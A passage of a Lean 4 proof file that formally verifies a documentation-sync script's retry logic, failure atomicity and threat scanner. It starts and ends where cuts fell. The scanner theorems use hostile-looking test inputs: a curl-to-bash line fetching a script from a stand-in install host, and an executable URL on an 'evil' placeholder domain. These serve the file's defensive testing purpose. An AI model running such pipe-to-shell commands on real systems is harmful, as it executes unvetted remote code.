    (g : GlobalDisk) (prevReport : Option String) : GlobalDisk × Option String :=
  let res := runTargets env targets g
  (res.1, logThreats now res.2 prevReport)

/-- The manifest step of `syncTarget` fails for this outcome: either the
fetch itself failed (after its retries) or the manifest is truncated. -/
def manifestFails (m : Except String TreeResponse) : Prop :=
  (∃ e, m = .error e) ∨ ∃ d, m = .ok d ∧ d.truncated = true

/-! ## Theorems -/

/-! ### Retry policy (C1) -/

/-- Every delay of `fetchJsonWithRetry` is the linear backoff, whatever
the outcomes were. -/
theorem jsonDelays_get (retries : Nat) :
    ∀ (os : List AttemptOutcome) (a i : Nat) (d : Int),
      (jsonDelays retries a os).get? i = some d →
      d = RETRY_DELAY_BASE_MS * ((a : Int) + (i : Int) + 1) := by
  intro os
  induction os with
  | nil => intro a i d h; simp [jsonDelays] at h
  | cons o rest ih =>
    intro a i d h
    cases o with
    | ok body => simp [jsonDelays] at h
    | httpError st ra =>
      by_cases ha : a < retries
      · simp only [jsonDelays, if_pos ha] at h
        cases i with
        | zero =>
          rw [List.get?_cons_zero] at h
          have hd := Option.some.inj h
          simp only [RETRY_DELAY_BASE_MS] at hd ⊢
          push_cast
          omega
        | succ i =>
          rw [List.get?_cons_succ] at h
          have := ih (a + 1) i d h
          simp only [RETRY_DELAY_BASE_MS] at this ⊢
          push_cast at this ⊢
          omega
      · simp only [jsonDelays, if_neg ha] at h
        simp at h
    | netError =>
      by_cases ha : a < retries
      · simp only [jsonDelays, if_pos ha] at h
        cases i with
        | zero =>
          rw [List.get?_cons_zero] at h
          have hd := Option.some.inj h
          simp only [RETRY_DELAY_BASE_MS] at hd ⊢
          push_cast
          omega
        | succ i =>
          rw [List.get?_cons_succ] at h
          have := ih (a + 1) i d h
          simp only [RETRY_DELAY_BASE_MS] at this ⊢
          push_cast at this ⊢
          omega
      · simp only [jsonDelays, if_neg ha] at h
        simp at h

/-- If attempt `i` of `fetchTextWithRetry` fails with status 429 or 403
and a nonzero numeric `retry-after` of `v` seconds, all earlier attempts
failed, and attempts remain, then the `i`-th awaited delay is exactly
`v * 1000` milliseconds. -/
theorem textDelays_get_retryAfter (retries : Nat) :
    ∀ (os : List AttemptOutcome) (i a : Nat) (ls : Option Nat) (ram : Option Int)
      (st : Nat) (v : Int),
      os.get? i = some (.httpError st (some v)) →
      (∀ j, j < i → ∀ o, os.get? j = some o → o.isFail = true) →
      a + i < retries → (st = 429 ∨ st = 403) → v ≠ 0 →
      (textDelays retries a ls ram os).get? i = some (v * 1000) := by
  intro os
  induction os with
  | nil => intro i a ls ram st v h; simp at h
  | cons o rest ih =>
    intro i a ls ram st v h hfail hlt hst hv
    cases i with
    | zero =>
      rw [List.get?_cons_zero] at h
      have ho := Option.some.inj h
      subst ho
      have ha : a < retries := by omega
      have hbeq : (st == 429 || st == 403) = true := by
        rcases hst with rfl | rfl <;> simp
      have hvz : ¬(v * 1000 == 0) = true := by
        simp only [beq_iff_eq]
        intro hcon
        exact hv (by omega)
      simp only [textDelays, if_pos ha, List.get?_cons_zero]
      unfold delayOf
      simp [hbeq, hvz]
    | succ i =>
      have h0 : o.isFail = true := by
        exact hfail 0 (Nat.succ_pos i) o (by simp)
      cases o with
      | ok body => simp [AttemptOutcome.isFail] at h0
      | httpError st2 ra2 =>
        have ha : a < retries := by omega
        simp only [textDelays, if_pos ha, List.get?_cons_succ]
        refine ih i (a + 1) _ _ st v (by simpa using h) ?_ (by omega) hst hv
        intro j hj o2 hjo
        exact hfail (j + 1) (by omega) o2 (by simpa using hjo)
      | netError =>
        have ha : a < retries := by omega
        simp only [textDelays, if_pos ha, List.get?_cons_succ]
        refine ih i (a + 1) _ _ st v (by simpa using h) ?_ (by omega) hst hv
        intro j hj o2 hjo
        exact hfail (j + 1) (by omega) o2 (by simpa using hjo)

/-- If no response of the run ever carried a `retry-after` header, every
delay of `fetchTextWithRetry` is the linear backoff. -/
theorem textDelays_get_noHeader (retries : Nat) :
    ∀ (os : List AttemptOutcome) (i a : Nat) (ls : Option Nat) (d : Int),
      (∀ o ∈ os, o.header = none) →
      (textDelays retries a ls none os).get? i = some d →
      d = RETRY_DELAY_BASE_MS * ((a : Int) + (i : Int) + 1) := by
  intro os
  induction os with
  | nil => intro i a ls d hh h; simp [textDelays] at h
  | cons o rest ih =>
    intro i a ls d hh h
    cases o with
    | ok body => simp [textDelays] at h
    | httpError st ra =>
      have hra : ra = none := hh (.httpError st ra) (by simp)
      subst hra
      by_cases ha : a < retries
      · simp only [textDelays, if_pos ha] at h
        cases i with
        | zero =>
          rw [List.get?_cons_zero] at h
          have hd := Option.some.inj h
          unfold delayOf at hd
          simp only [RETRY_DELAY_BASE_MS] at hd ⊢
          push_cast at hd ⊢
          omega
        | succ i =>
          rw [List.get?_cons_succ] at h
          have := ih i (a + 1) (some st) d (fun o2 ho2 => hh o2 (by simp [ho2])) h
          simp only [RETRY_DELAY_BASE_MS] at this ⊢
          push_cast at this ⊢
          omega
      · simp only [textDelays, if_neg ha] at h
        simp at h
    | netError =>
      by_cases ha : a < retries
      · simp only [textDelays, if_pos ha] at h
        cases i with
        | zero =>
          rw [List.get?_cons_zero] at h
          have hd := Option.some.inj h
          unfold delayOf at hd
          simp only [RETRY_DELAY_BASE_MS] at hd ⊢
          push_cast at hd ⊢
          omega
        | succ i =>
          rw [List.get?_cons_succ] at h
          have := ih i (a + 1) ls d (fun o2 ho2 => hh o2 (by simp [ho2])) h
          simp only [RETRY_DELAY_BASE_MS] at this ⊢
          push_cast at this ⊢
          omega
      · simp only [textDelays, if_neg ha] at h
        simp at h

/-- C1 (counterexample): on an attempt that fails with HTTP 429 carrying
the numeric `retry-after` header `5`, `fetchTextWithRetry` awaits 5000 ms
(5 seconds, as the claim demands) but `fetchJsonWithRetry` awaits the
linear backoff of 500 ms — the JSON variant never reads `retry-after`,
so the claim is false "for both fetch variants". -/
theorem claim_C1_counterexample :
    fetchJsonDelays 2 [AttemptOutcome.httpError 429 (some 5), AttemptOutcome.ok ""] = [500] ∧
    fetchTextDelays 2 [AttemptOutcome.httpError 429 (some 5), AttemptOutcome.ok ""] = [5000] ∧
    (500 : Int) ≠ 5 * 1000 := by
  refine ⟨by decide, by decide, by decide⟩

/-- C1 (amended): `fetchJsonWithRetry` always awaits the linear backoff
`RETRY_DELAY_BASE_MS * (attempt number)`, even after a 429/403 response
with a `retry-after` header; only `fetchTextWithRetry` implements the
rate-limit exception: when the failing attempt returns 429 or 403 with a
nonzero numeric `retry-after` of `v` seconds (earlier attempts having
failed), the awaited delay is exactly `v * 1000` ms, and when no response
of the run carries a `retry-after` header its delays are the linear
backoff. -/
theorem claim_C1_amended (retries : Nat) (os : List AttemptOutcome) (i : Nat) :
    (∀ d : Int, (fetchJsonDelays retries os).get? i = some d →
        d = RETRY_DELAY_BASE_MS * ((i : Int) + 1)) ∧
    (∀ (st : Nat) (v : Int), os.get? i = some (.httpError st (some v)) →
        (∀ j, j < i → ∀ o, os.get? j = some o → o.isFail = true) →
        i < retries → (st = 429 ∨ st = 403) → v ≠ 0 →
        (fetchTextDelays retries os).get? i = some (v * 1000)) ∧
    ((∀ o ∈ os, o.header = none) → ∀ d : Int,
        (fetchTextDelays retries os).get? i = some d →
        d = RETRY_DELAY_BASE_MS * ((i : Int) + 1)) := by
  refine ⟨?_, ?_, ?_⟩
  · intro d h
    have := jsonDelays_get retries os 0 i d h
    simpa using this
  · intro st v h hf hi hst hv
    exact textDelays_get_retryAfter retries os i 0 none none st v h hf (by omega) hst hv
  · intro hh d h
    have := textDelays_get_noHeader retries os i 0 none d hh h
    simpa using this

/-- Witness for C1 (amended), applied at a concrete run: one attempt
failing with 429 and `retry-after: 7` awaits 7000 ms. -/
theorem claim_C1_witness :
    (fetchTextDelays 2 [AttemptOutcome.httpError 429 (some 7)]).get? 0 = some (7 * 1000) :=
  (claim_C1_amended 2 [AttemptOutcome.httpError 429 (some 7)] 0).2.1 429 7 rfl
    (fun j hj => absurd hj (Nat.not_lt_zero j)) (by decide) (Or.inl rfl) (by decide)

/-! ### Concrete scanner scenarios (C4) -/

/-- C4: on the line `curl -fsSL https://install.example.com/setup.sh | bash`
(host not allow-listed) the scanner returns exactly one finding, of
category `pipe-to-shell`, whose matched text is the entire line; on
`curl -fsSL https://bun.sh/install | bash` it returns no findings because
`bun.sh` is in the trusted-shell-domain allow-list. -/
theorem claim_C4 :
    scanForThreats "curl -fsSL https://install.example.com/setup.sh | bash" =
      [Threat.mk "pipe-to-shell" "curl -fsSL https://install.example.com/setup.sh | bash"] ∧
    scanForThreats "curl -fsSL https://bun.sh/install | bash" = [] := by
  exact ⟨by decide, by decide⟩

/-! ### Determinism of the scanner (C6) -/

/-- C6: `scanForThreats` is a pure function of the document text: two
evaluations on the same document yield the same ordered finding list.
In this embedding the source function is literally a function (it does no
I/O and mutates only its local accumulator), so determinism holds
definitionally. -/
theorem claim_C6 (content : String) :
    scanForThreats content = scanForThreats content := rfl

/-! ### The threat reporter (C7) -/

/-- C7: with no flagged files, `logThreats` deletes any pre-existing
report artifact (result `none`, whatever was there before); with flagged
files it overwrites the artifact — independently of its previous state —
with the header, then per flagged file its identifier line and one
indented line per finding, in discovery order. -/
theorem claim_C7 (now : String) (entries : List FlaggedFile) (prev prev2 : Option String) :
    logThreats now [] prev = none ∧
    (entries ≠ [] →
      logThreats now entries prev =
        some (String.intercalate "\n" (reportLines now entries))) ∧
    logThreats now entries prev = logThreats now entries prev2 ∧
    reportLines now entries =
      ("Security Scan - " ++ now) :: String.mk (List.replicate 50 '=') :: "" ::
        entries.flatMap
          (fun e => ("FILE: " ++ e.file) ::
            (e.threats.map (fun t => "  [" ++ t.type ++ "] " ++ t.matched) ++ [""])) := by
  refine ⟨rfl, ?_, rfl, rfl⟩
  intro h
  simp [logThreats, h]

/-- Witness for C7 at a concrete non-empty run. -/
theorem claim_C7_witness :
    logThreats "2026-01-01" [FlaggedFile.mk "openclaw-docs/a.md" [Threat.mk "pipe-to-shell" "x"]]
        (some "stale report") =
      some (String.intercalate "\n"
        (reportLines "2026-01-01"
          [FlaggedFile.mk "openclaw-docs/a.md" [Threat.mk "pipe-to-shell" "x"]])) :=
  (claim_C7 "2026-01-01" [FlaggedFile.mk "openclaw-docs/a.md" [Threat.mk "pipe-to-shell" "x"]]
      (some "stale report") none).2.1 (by decide)

/-! ### Truncated manifests and failure atomicity (C8, C10) -/

/-- C8: whenever the fetched manifest has `truncated = true`, `syncTarget`
raises the truncation error for that target and leaves the destination
directory untouched — it neither mirrors a partial tree nor retries. -/
theorem claim_C8 (data : TreeResponse) (raw : String → Except String String)
    (t : RepoTarget) (disk : DirContents) (h : data.truncated = true) :
    syncTarget (.ok data) raw t disk =
      (disk, .error ("Git tree for " ++ t.owner ++ "/" ++ t.repo ++
        " is truncated. Consider paging.")) := by
  simp [syncTarget, h]

/-- Witness for C8 at a concrete truncated manifest. -/
theorem claim_C8_witness :
    syncTarget (.ok (TreeResponse.mk [] true)) (fun _ => .error "net")
        (RepoTarget.mk "openclaw-docs" "openclaw" "openclaw" "main" "docs" "dest")
        [("old.md", "stale")] =
      ([("old.md", "stale")],
        .error ("Git tree for " ++ "openclaw" ++ "/" ++ "openclaw" ++
          " is truncated. Consider paging.")) :=
  claim_C8 (TreeResponse.mk [] true) (fun _ => .error "net")
    (RepoTarget.mk "openclaw-docs" "openclaw" "openclaw" "main" "docs" "dest")
    [("old.md", "stale")] rfl

/-- C10: the manifest fetch and the truncation check precede the
delete/recreate of the destination directory, so if either fails the
error is raised with the previously mirrored files unchanged. -/
theorem claim_C10 (manifest : Except String TreeResponse)
    (raw : String → Except String String) (t : RepoTarget) (disk : DirContents)
    (h : manifestFails manifest) :
    (syncTarget manifest raw t disk).1 = disk ∧
    ∃ msg, (syncTarget manifest raw t disk).2 = .error msg := by
  rcases h with ⟨e, rfl⟩ | ⟨d, rfl, hd⟩
  · exact ⟨rfl, e, rfl⟩
  · constructor
    · simp [syncTarget, hd]
    · refine ⟨"Git tree for " ++ t.owner ++ "/" ++ t.repo ++
        " is truncated. Consider paging.", ?_⟩
      simp [syncTarget, hd]

/-- Witness for C10 at a concrete failed manifest fetch. -/
theorem claim_C10_witness :
    (syncTarget (.error "fetch failed") (fun _ => .ok "x")
        (RepoTarget.mk "clawhub-docs" "openclaw" "clawhub" "main" "docs" "d")
        [("kept.md", "body")]).1 = [("kept.md", "body")] ∧
    ∃ msg, (syncTarget (.error "fetch failed") (fun _ => .ok "x")
        (RepoTarget.mk "clawhub-docs" "openclaw" "clawhub" "main" "docs" "d")
        [("kept.md", "body")]).2 = .error msg :=
  claim_C10 (.error "fetch failed") (fun _ => .ok "x")
    (RepoTarget.mk "clawhub-docs" "openclaw" "clawhub" "main" "docs" "d")
    [("kept.md", "body")] (Or.inl ⟨"fetch failed", rfl⟩)

/-! ### Characterizing the raw-IP detector (C2) -/

/-- A digit run is at most the whole string. -/
theorem countLeading_le_length (p : Char → Bool) :
    ∀ s : List Char, countLeading p s ≤ s.length := by
  intro s
  induction s with
  | nil => simp [countLeading]
  | cons c r ih => by_cases hc : p c <;> simp [countLeading, hc] <;> omega

/-- Characters inside the counted leading run satisfy the class. -/
theorem mem_take_countLeading (p : Char → Bool) :
    ∀ (s : List Char) (k : Nat), k ≤ countLeading p s → ∀ c ∈ s.take k, p c = true := by
  intro s
  induction s with
  | nil => intro k hk c hc; simp at hc
  | cons c0 r ih =>
    intro k hk c hc
    cases k with
    | zero => simp at hc
    | succ k =>
      by_cases hc0 : p c0
      · simp only [countLeading, if_pos hc0] at hk
        rw [List.take_succ_cons] at hc
        rcases List.mem_cons.mp hc with rfl | hmem
        · exact hc0
        · exact ih k (by omega) c hmem
      · simp only [countLeading, if_neg hc0] at hk
        omega

/-- Inversion for the literal `://`. -/
theorem isColonSlashes_eq : ∀ {s r : List Char},
    isColonSlashes s = some r → s = ':' :: '/' :: '/' :: r := by
  intro s r h
  unfold isColonSlashes at h
  split at h
  · injection h with h2
    subst h2
    rfl
  · exact absurd h (by simp)

/-- A t/T character is not h/H. -/
theorem isH_of_isT {c : Char} (h : isT c = true) : isH c = false := by
  simp [isT] at h
  rcases h with rfl | rfl <;> decide

/-- A p/P character is not h/H. -/
theorem isH_of_isP {c : Char} (h : isP c = true) : isH c = false := by
  simp [isP] at h
  rcases h with rfl | rfl <;> decide

/-- An s/S character is not h/H. -/
theorem isH_of_isS {c : Char} (h : isS c = true) : isH c = false := by
  simp [isS] at h
  rcases h with rfl | rfl <;> decide

/-- A digit is not h/H. -/
theorem isH_of_digit {c : Char} (h : c.isDigit = true) : isH c = false := by
  cases hH : isH c
  · rfl
  · exfalso
    simp [isH] at hH
    rcases hH with rfl | rfl <;> exact absurd h (by decide)

/-- Structure of a scheme match: it decomposes the input, starts with
h/H, and no later character of it is h/H. -/
theorem matchScheme_spec : ∀ {s m r : List Char}, matchScheme s = some (m, r) →
    s = m ++ r ∧ ∃ c0 tl, m = c0 :: tl ∧ isH c0 = true ∧ ∀ c ∈ tl, isH c = false := by
  intro s m r h
  unfold matchScheme at h
  split at h
  next c0 c1 c2 c3 rest =>
    split at h
    case isFalse => exact absurd h (by simp)
    case isTrue hcond =>
      simp only [Bool.and_eq_true] at hcond
      obtain ⟨⟨⟨h0, h1⟩, h2⟩, h3⟩ := hcond
      split at h
      case h_2 => exact absurd h (by simp)
      next c4 rest2 =>
        split at h
        case isTrue hs4 =>
          split at h
          case h_2 => exact absurd h (by simp)
          next r2 hcs =>
            injection h with h
            injection h with hm hr
            subst hm; subst hr
            have hrest2 := isColonSlashes_eq hcs
            subst hrest2
            refine ⟨by simp, c0, [c1, c2, c3, c4, ':', '/', '/'], rfl, h0, ?_⟩
            intro c hc
            simp only [List.mem_cons, List.not_mem_nil, or_false] at hc
            rcases hc with rfl | rfl | rfl | rfl | rfl | rfl | rfl
            · exact isH_of_isT h1
            · exact isH_of_isT h2
            · exact isH_of_isP h3
            · exact isH_of_isS hs4
            · decide
            · decide
            · decide
        case isFalse hs4 =>
          split at h
          case h_2 => exact absurd h (by simp)
          next r2 hcs =>
            injection h with h
            injection h with hm hr
            subst hm; subst hr
            have hrest := isColonSlashes_eq hcs
            rw [hrest]
            refine ⟨by simp, c0, [c1, c2, c3, ':', '/', '/'], rfl, h0, ?_⟩
            intro c hc
            simp only [List.mem_cons, List.not_mem_nil, or_false] at hc
            rcases hc with rfl | rfl | rfl | rfl | rfl | rfl
            · exact isH_of_isT h1
            · exact isH_of_isT h2
            · exact isH_of_isP h3
            · decide
            · decide
            · decide
  next => exact absurd h (by simp)

/-- Structure of a `\d{1,3}\.` match. -/
theorem matchOctetDot_spec : ∀ {s o r : List Char}, matchOctetDot s = some (o, r) →
    s = o ++ r ∧ o ≠ [] ∧ ∀ c ∈ o, isH c = false := by
  intro s o r h
  simp only [matchOctetDot] at h
  split at h
  case isTrue hn =>
    split at h
    case h_1 r1 heq =>
      injection h with h
      injection h with hm hr
      subst hm; subst hr
      refine ⟨?_, by simp, ?_⟩
      · conv_lhs => rw [← List.take_append_drop (countLeading Char.isDigit s) s]
        rw [heq]
        simp
      · intro c hc
        rcases List.mem_append.mp hc with htake | hdot
        · exact isH_of_digit (mem_take_countLeading Char.isDigit s _ (le_refl _) c htake)
        · simp at hdot
          subst hdot
          decide
    case h_2 => exact absurd h (by simp)
  case isFalse hn => exact absurd h (by simp)

/-- Structure of the final `\d{1,3}` match. -/
theorem matchOctetEnd_spec : ∀ {s o r : List Char}, matchOctetEnd s = some (o, r) →
    s = o ++ r ∧ o ≠ [] ∧ ∀ c ∈ o, isH c = false := by
  intro s o r h
  simp only [matchOctetEnd] at h
  split at h
  case isTrue hn =>
    injection h with h
    injection h with hm hr
    subst hm; subst hr
    refine ⟨by rw [List.take_append_drop], ?_, ?_⟩
    · intro hnil
      rcases List.take_eq_nil_iff.mp hnil with h0 | h0
      · omega
      · subst h0
        simp [countLeading] at hn
    · intro c hc
      exact isH_of_digit
        (mem_take_countLeading Char.isDigit s _ (Nat.min_le_left _ _) c hc)
  case isFalse => exact absurd h (by simp)

/-- Structure of the captured dotted quad. -/
theorem matchQuad_spec : ∀ {s q r : List Char}, matchQuad s = some (q, r) →
    s = q ++ r ∧ q ≠ [] ∧ ∀ c ∈ q, isH c = false := by
  intro s q r h
  unfold matchQuad at h
  split at h
  case h_1 => exact absurd h (by simp)
  next o1 r1 h1 =>
    split at h
    case h_1 => exact absurd h (by simp)
    next o2 r2 h2 =>
      split at h
      case h_1 => exact absurd h (by simp)
      next o3 r3 h3 =>
        split at h
        case h_1 => exact absurd h (by simp)
        next o4 r4 h4 =>
          injection h with h
          injection h with hm hr
          subst hm; subst hr
          obtain ⟨e1, ne1, d1⟩ := matchOctetDot_spec h1
          obtain ⟨e2, _, d2⟩ := matchOctetDot_spec h2
          obtain ⟨e3, _, d3⟩ := matchOctetDot_spec h3
          obtain ⟨e4, _, d4⟩ := matchOctetEnd_spec h4
          refine ⟨?_, by simp [ne1], ?_⟩
          · rw [e1, e2, e3, e4]
            simp [List.append_assoc]
          · intro c hc
            simp only [List.append_assoc, List.mem_append] at hc
            rcases hc with hc | hc | hc | hc
            · exact d1 c hc
            · exact d2 c hc
            · exact d3 c hc
            · exact d4 c hc

/-- Structure of a whole raw-IP-URL match: it decomposes the input, and
only its first character is h/H. -/
theorem rawIpMatchAt_spec : ∀ {s m ip rest : List Char},
    rawIpMatchAt s = some (m, ip, rest) →
    s = m ++ rest ∧ ∃ c0 tl, m = c0 :: tl ∧ isH c0 = true ∧ ∀ c ∈ tl, isH c = false := by
  intro s m ip rest h
  unfold rawIpMatchAt at h
  split at h
  case h_1 => exact absurd h (by simp)
  next sch r hs =>
    split at h
    case h_1 => exact absurd h (by simp)
    next q rest2 hq =>
      injection h with h
      injection h with hm h
      injection h with hip hrest
      subst hm; subst hip; subst hrest
      obtain ⟨es, c0, tl, hsch, hc0, htl⟩ := matchScheme_spec hs
      obtain ⟨eq2, _, hqchars⟩ := matchQuad_spec hq
      constructor
      · rw [es, eq2]
        simp [List.append_assoc]
      · refine ⟨c0, tl ++ q, by simp [hsch], hc0, ?_⟩
        intro c hc
        rcases List.mem_append.mp hc with hc | hc
        · exact htl c hc
        · exact hqchars c hc

/-- No raw-IP-URL match can start at a character other than h/H. -/
theorem rawIpMatchAt_none {c : Char} (h : isH c = false) (s : List Char) :
    rawIpMatchAt (c :: s) = none := by
  unfold rawIpMatchAt
  suffices hs : matchScheme (c :: s) = none by rw [hs]
  rcases s with _ | ⟨c1, _ | ⟨c2, _ | ⟨c3, rest⟩⟩⟩ <;> simp [matchScheme, h]

/-- Scanning may skip the interior of a match: none of its positions can
start another match. -/
theorem rawIpOccurrences_skip : ∀ (tl rest : List Char),
    (∀ c ∈ tl, isH c = false) → rawIpOccurrences (tl ++ rest) = rawIpOccurrences rest := by
  intro tl
  induction tl with
  | nil => intro rest _; rfl
  | cons c tl ih =>
    intro rest hall
    have hc : isH c = false := hall c (List.mem_cons_self c tl)
    have : rawIpOccurrences ((c :: tl) ++ rest) = rawIpOccurrences (tl ++ rest) := by
      simp only [List.cons_append, rawIpOccurrences, rawIpMatchAt_none hc, List.append_eq]
    rw [this]
    exact ih rest (fun c2 h2 => hall c2 (List.mem_cons_of_mem c h2))

/-- The fuelled `matchAll` scan of the raw-IP detector produces exactly
one (possibly suppressed) finding per occurrence of the pattern. -/
theorem rawIpScanF_eq : ∀ (fuel : Nat) (s : List Char), s.length ≤ fuel →
    rawIpScanF fuel s = (rawIpOccurrences s).filterMap rawIpStep := by
  intro fuel
  induction fuel with
  | zero =>
    intro s hs
    have h0 : s = [] := List.length_eq_zero.mp (Nat.le_zero.mp hs)
    subst h0
    rfl
  | succ fuel ih =>
    intro s hs
    cases s with
    | nil => rfl
    | cons c s =>
      cases hm : rawIpMatchAt (c :: s) with
      | none =>
        simp only [rawIpScanF, rawIpOccurrences, hm]
        refine ih s ?_
        simp only [List.length_cons] at hs
        omega
      | some trip =>
        obtain ⟨m, pr⟩ := trip
        obtain ⟨ip, rest⟩ := pr
        obtain ⟨hseq, c0, tl, hm_eq, hc0, htl⟩ := rawIpMatchAt_spec hm
        rw [hm_eq, List.cons_append] at hseq
        injection hseq with hcc hs2
        have hlen : s.length = tl.length + rest.length := by
          rw [hs2]
          simp
        have hrest_len : rest.length ≤ fuel := by
          simp only [List.length_cons] at hs
          omega
        have hocc : rawIpOccurrences s = rawIpOccurrences rest := by
          rw [hs2]
          exact rawIpOccurrences_skip tl rest htl
        simp only [rawIpScanF, rawIpOccurrences, hm]
        rw [List.filterMap_cons, hocc]
        cases hstep : rawIpStep (m, ip) with
        | none => exact ih rest hrest_len
        | some t => exact congrArg (List.cons t) (ih rest hrest_len)

/-- One (possibly suppressed) raw-IP finding per occurrence. -/
theorem rawIpFindings_eq (cs : List Char) :
    rawIpFindings cs = (rawIpOccurrences cs).filterMap rawIpStep :=
  rawIpScanF_eq cs.length cs (le_refl _)

/-- Every emitted raw-IP finding has category `raw-ip-url`. -/
theorem rawIpStep_type {pr : List Char × List Char} {t : Threat}
    (h : rawIpStep pr = some t) : t.type = "raw-ip-url" := by
  unfold rawIpStep at h
  split at h
  · exact absurd h (by simp)
  · have h2 := Option.some.inj h
    rw [← h2]

/-- Category of any finding of the raw-IP detector. -/
theorem mem_rawIpFindings_type {cs : List Char} {t : Threat}
    (h : t ∈ rawIpFindings cs) : t.type = "raw-ip-url" := by
  rw [rawIpFindings_eq] at h
  obtain ⟨pr, _, hstep⟩ := List.mem_filterMap.mp h
  exact rawIpStep_type hstep

/-- Categories of the per-line detectors. -/
theorem mem_lineFindings_type {l : List Char} {t : Threat} (h : t ∈ lineFindings l) :
    t.type = "base64-exec" ∨ t.type = "pipe-to-shell" ∨ t.type = "cmd-substitution" := by
  unfold lineFindings at h
  rcases List.mem_append.mp h with h12 | h3
  · rcases List.mem_append.mp h12 with h1 | h2
    · left
      obtain ⟨m, _, hmk⟩ := List.mem_map.mp h1
      rw [← hmk]
    · right; left
      obtain ⟨m, _, hsome⟩ := List.mem_filterMap.mp h2
      split at hsome
      · exact absurd hsome (by simp)
      · have h2 := Option.some.inj hsome
        rw [← h2]
  · right; right
    obtain ⟨m, _, hsome⟩ := List.mem_filterMap.mp h3
    split at hsome
    · exact absurd hsome (by simp)
    · have h2 := Option.some.inj hsome
      rw [← h2]

/-- Category of any finding of the prompt-injection detector. -/
theorem mem_promptFindings_type {cs : List Char} {t : Threat}
    (h : t ∈ promptFindings cs) : t.type = "prompt-injection" := by
  unfold promptFindings at h
  obtain ⟨p, _, hsome⟩ := List.mem_filterMap.mp h
  obtain ⟨m, _, hmk⟩ := Option.map_eq_some'.mp hsome
  rw [← hmk]

/-- Category of any finding of the executable-URL detector. -/
theorem mem_execUrlFindings_type {cs : List Char} {t : Threat}
    (h : t ∈ execUrlFindings cs) : t.type = "executable-url" := by
  unfold execUrlFindings at h
  obtain ⟨m, _, hsome⟩ := List.mem_filterMap.mp h
  rw [show (let url := trimDelimEnd m;
      if isTrustedExecutableDomain url = true then none
      else some (Threat.mk "executable-url" (String.mk url))) =
      (if isTrustedExecutableDomain (trimDelimEnd m) = true then none
      else some (Threat.mk "executable-url" (String.mk (trimDelimEnd m)))) from rfl] at hsome
  split at hsome
  · exact absurd hsome (by simp)
  · have h2 := Option.some.inj hsome
    rw [← h2]

/-- C2: the raw-ip-url findings of `scanForThreats` are exactly one per
occurrence of the pattern `https?://d.d.d.d` in the document, except that
an occurrence whose dotted quad satisfies `isPrivateOrLocalIP` produces
none; and the private predicate holds of octet values a.b.c.d precisely
on the ranges 127.0.0.0/8, 10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16 and
100.64.0.0/10. -/
theorem claim_C2 (content : String) (a b c d : Nat) :
    (scanForThreats content).filter (fun t => t.type == "raw-ip-url") =
      (rawIpOccurrences content.data).filterMap
        (fun pr => if isPrivateOrLocalIP pr.2 then none
          else some (Threat.mk "raw-ip-url" (String.mk pr.1))) ∧
    (privParts [some a, some b, some c, some d] = true ↔
      (a = 127 ∨ a = 10 ∨ (a = 172 ∧ 16 ≤ b ∧ b ≤ 31) ∨ (a = 192 ∧ b = 168) ∨
        (a = 100 ∧ 64 ≤ b ∧ b ≤ 127))) := by
  constructor
  · show (scanForThreats content).filter (fun t => t.type == "raw-ip-url") =
      (rawIpOccurrences content.data).filterMap rawIpStep
    unfold scanForThreats
    rw [List.filter_append, List.filter_append, List.filter_append]
    have hL : ((splitOnChar '\n' content.data).flatMap lineFindings).filter
        (fun t => t.type == "raw-ip-url") = [] := by
      rw [List.filter_eq_nil_iff]
      intro t ht
      obtain ⟨l, _, htl⟩ := List.mem_flatMap.mp ht
      rcases mem_lineFindings_type htl with h1 | h1 | h1 <;> rw [h1] <;> decide
    have hP : (promptFindings content.data).filter
        (fun t => t.type == "raw-ip-url") = [] := by
      rw [List.filter_eq_nil_iff]
      intro t ht
      rw [mem_promptFindings_type ht]
      decide
    have hE : (execUrlFindings content.data).filter
        (fun t => t.type == "raw-ip-url") = [] := by
      rw [List.filter_eq_nil_iff]
      intro t ht
      rw [mem_execUrlFindings_type ht]
      decide
    have hR : (rawIpFindings content.data).filter
        (fun t => t.type == "raw-ip-url") = rawIpFindings content.data := by
      rw [List.filter_eq_self]
      intro t ht
      rw [mem_rawIpFindings_type ht]
      decide
    rw [hL, hP, hE, hR, rawIpFindings_eq]
    simp
  · simp only [privParts, inR]
    simp only [Bool.or_eq_true, Bool.and_eq_true, beq_iff_eq, decide_eq_true_eq,
      Option.some.injEq]
    tauto

/-! ### The executable-URL allow-list (C3) -/

/-- C3: the scanner never emits an executable-url finding whose (trimmed)
matched URL contains a trusted executable-domain string as a substring —
such URLs are suppressed even though the raw extension pattern matched. -/
theorem claim_C3 (content : String) (t : Threat) (ht : t ∈ scanForThreats content)
    (hty : t.type = "executable-url") :
    ∀ d ∈ TRUSTED_EXECUTABLE_DOMAINS, containsSub t.matched.data d.data = false := by
  unfold scanForThreats at ht
  rcases List.mem_append.mp ht with h123 | hE
  · rcases List.mem_append.mp h123 with h12 | hP
    · rcases List.mem_append.mp h12 with hL | hR
      · obtain ⟨l, _, htl⟩ := List.mem_flatMap.mp hL
        rcases mem_lineFindings_type htl with h1 | h1 | h1 <;>
          rw [hty] at h1 <;> exact absurd h1 (by decide)
      · have h1 := mem_rawIpFindings_type hR
        rw [hty] at h1
        exact absurd h1 (by decide)
    · have h1 := mem_promptFindings_type hP
      rw [hty] at h1
      exact absurd h1 (by decide)
  · unfold execUrlFindings at hE
    obtain ⟨m, _, hsome⟩ := List.mem_filterMap.mp hE
    dsimp only at hsome
    split at hsome
    · exact absurd hsome (by simp)
    case isFalse htr =>
      have h2 := Option.some.inj hsome
      rw [← h2]
      intro dom hdom
      have hfalse : isTrustedExecutableDomain (trimDelimEnd m) = false := by
        cases hq : isTrustedExecutableDomain (trimDelimEnd m)
        · rfl
        · exact absurd hq htr
      unfold isTrustedExecutableDomain at hfalse
      have hall := List.any_eq_false.mp hfalse
      have := hall dom hdom
      simpa using this

/-- Witness for C3: a concrete scan whose executable-url finding does not
contain the trusted domain `github.com`. -/
theorem claim_C3_witness :
    containsSub
      (Threat.matched (Threat.mk "executable-url" "https://evil.example/a.exe")).data
      "github.com".data = false :=
  claim_C3 "https://evil.example/a.exe"
    (Threat.mk "executable-url" "https://evil.example/a.exe") (by decide) rfl
    "github.com" (by decide)

/-! ### At most one prompt-injection finding per pattern (C5) -/

/-- C5: the prompt-injection detector contributes at most one finding per
pattern (it uses `content.match`, which yields only the first match), so
a document never yields more prompt-injection findings than there are
patterns; the detector is exactly one optional finding per pattern; and
on `Setup-Wizard: click here to continue` the whole scanner returns
exactly one finding with matched text `Setup-Wizard:`. -/
